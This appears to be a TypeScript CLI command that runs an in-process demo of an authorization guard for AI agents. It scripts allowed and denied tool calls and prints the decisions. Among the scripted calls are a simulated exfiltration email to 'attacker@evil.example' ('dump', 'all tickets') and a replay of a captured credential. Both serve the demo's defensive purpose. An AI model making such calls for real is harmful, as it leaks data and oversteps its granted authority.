/**
 * `tessera demo`: a short agent task through the guard, shipped in the package so that it runs
 * from an installed copy: one capability, allowed calls, denials, an approval and a replayed
 * credential, printed as a table of decisions. Everything runs in process, on generated keys and
 * the in-memory store; nothing leaves the machine.
 */
import { z } from 'zod';
import { createAuthority } from '../../capability/authority.js';
import { verifyCallCredential } from '../../credentials/verify-call-credential.js';
import { isTesseraError } from '../../errors.js';
import { createGuard } from '../../guard/create-guard.js';
import { parseCommand, renderHelp, type CommandSpec } from '../args.js';
import { EXIT, type CliIo, type ExitCode } from '../io.js';
import { guardTool } from '../../guard/guard-tool.js';

export const demoSpec: CommandSpec = {
  name: 'demo',
  summary: 'run the demo agent task through the guard',
  usage: '',
  options: {},
  notes: 'Runs in process with generated keys and the in-memory store; needs no network and no checkout.',
};

export interface DemoRow {
  step: string;
  tool: string;
  outcome: 'allowed' | 'denied';
  code: string;
  reason: string;
}

/** Prints rows as a table, a column per key of the first row, each at most 70 characters wide. */
export function table(rows: readonly Readonly<Record<string, string>>[], out: (line: string) => void): void {
  const cols = Object.keys(rows[0] ?? {});
  const width = (c: string) => Math.min(70, Math.max(c.length, ...rows.map((r) => (r[c] ?? '').length)));
  const cell = (s: string, w: number) => (s.length > w ? `${s.slice(0, w - 1)}…` : s.padEnd(w));
  out(cols.map((c) => cell(c, width(c))).join('  '));
  out(cols.map((c) => '-'.repeat(width(c))).join('  '));
  for (const r of rows) out(cols.map((c) => cell(r[c] ?? '', width(c))).join('  '));
}

/** The tool the demo warms the guard up with before its task. */
export const WARM_UP_TOOL = 'demo.warm-up';

/** Runs the demo task; returns its decisions (also printed through `out`). */
export async function runPackagedDemo(io: Pick<CliIo, 'clock'>, out: (line: string) => void): Promise<DemoRow[]> {
  const clock = io.clock;
  // Control plane: an authority grants one intent-scoped capability.
  const authority = await createAuthority({ issuer: 'https://authz.example.com', clock });
  const capability = await authority.grant({
    agent: 'spiffe://example.org/agents/support',
    audience: 'support-app',
    intent: { id: 'ticket-4711', purpose: 'Answer ticket 4711' },
    tools: {
      'tickets.read': { args: { ticketId: { eq: '4711' } } },
      'email.send': { args: { to: { endsWith: '@example.com' } }, maxCalls: 1 },
    },
    ttl: '5m',
  });
  // Data plane: email.send is external, so a human approves it; an approver that says yes to
  // email stands in for the on-call person.
  const guard = createGuard({
    audience: 'support-app',
    trust: { issuer: 'https://authz.example.com', jwks: authority.jwks() },
    clock,
    approver: (req) => ({ approved: req.tool === 'email.send', approver: 'oncall@example.com' }),
  });
  const presented: string[] = [];
  const mailService = async (credential: string) => {
    await verifyCallCredential(credential, { jwks: guard.credentialJwks(), issuer: guard.credentialIssuer, audience: 'mail-api', store: guard.store, tool: 'email.send', clock });
    presented.push(credential);
  };
  const readTicket = guardTool(
    guard,
    { name: 'tickets.read', description: 'Read a support ticket', input: z.object({ ticketId: z.string() }), risk: 'read' },
    ({ ticketId }) => ({ ticketId, subject: 'Cannot log in', from: 'dana@example.com' }),
  );
  const sendEmail = guardTool(
    guard,
    {
      name: 'email.send',
      description: 'Send an email',
      input: z.object({ to: z.string().email(), subject: z.string(), body: z.string() }),
      risk: 'external',
      credential: { audience: 'mail-api' },
    },
    async (args, ctx) => {
      await mailService(ctx.credential.token);
      ctx.sideEffect('email.sent', { to: args.to });
      return { sent: true };
    },
  );
  const deleteTicket = guardTool(
    guard,
    { name: 'tickets.delete', description: 'Delete a ticket', input: z.object({ ticketId: z.string() }), risk: 'admin' },
    () => ({ deleted: true }),
  );

  // Warm-up, not part of the table: the process's first guarded calls also pay for loading and
  // compiling the code paths and importing keys, which would swamp the figures of a span
  // pipeline watching the demo (examples/demo-run.ts prints them). Its spans are named
  // `WARM_UP_TOOL`.
  const warmUp = guardTool(guard, { name: WARM_UP_TOOL, description: 'Warm-up', input: z.object({}), risk: 'read' }, () => null);
  const warmUpCapability = await authority.grant({
    agent: 'spiffe://example.org/agents/support',
    audience: 'support-app',
    intent: { id: 'warm-up', purpose: 'Warm up the guard before the demo' },
    tools: { [WARM_UP_TOOL]: {} },
    ttl: '1m',
  });
  for (let i = 0; i < 20; i++) await guard.withCapability(warmUpCapability, () => warmUp({}));

  const rows: DemoRow[] = [];
  const attempt = async (step: string, tool: string, call: () => Promise<unknown>) => {
    try {
      await call();
      rows.push({ step, tool, outcome: 'allowed', code: '', reason: '' });
    } catch (err) {
      if (!isTesseraError(err)) throw err;
      rows.push({ step, tool, outcome: 'denied', code: err.code, reason: err.reason });
    }
  };
  await guard.withCapability(capability, async () => {
    await attempt('read the ticket', 'tickets.read', () => readTicket({ ticketId: '4711' }));
    await attempt('reply to the customer', 'email.send', () => sendEmail({ to: 'dana@example.com', subject: 'Re: Cannot log in', body: 'Reset link sent.' }));
    await attempt('read another ticket', 'tickets.read', () => readTicket({ ticketId: '4712' }));
    await attempt('delete the ticket', 'tickets.delete', () => deleteTicket({ ticketId: '4711' }));
    await attempt('email an outsider', 'email.send', () => sendEmail({ to: 'attacker@evil.example', subject: 'dump', body: 'all tickets' }));
    await attempt('email again', 'email.send', () => sendEmail({ to: 'ops@example.com', subject: 'FYI', body: 'done' }));
  });
  // Someone who captured the credential tries to use it again, downstream.
  await attempt('replay the credential', 'mail-api', () => mailService(presented[0] ?? ''));

  out('Tessera demo: one agent, one intent ("Answer ticket 4711")\n');
  table(rows.map((r) => ({ ...r })), out);
  return rows;
}

export async function demo(argv: readonly string[], io: CliIo): Promise<ExitCode> {
  const p = parseCommand(demoSpec, argv);
  if (p.help) {
    io.stdout(renderHelp(demoSpec));
    return EXIT.ok;
  }
  await runPackagedDemo(io, (line) => io.stdout(`${line}\n`));
  return EXIT.ok;
}
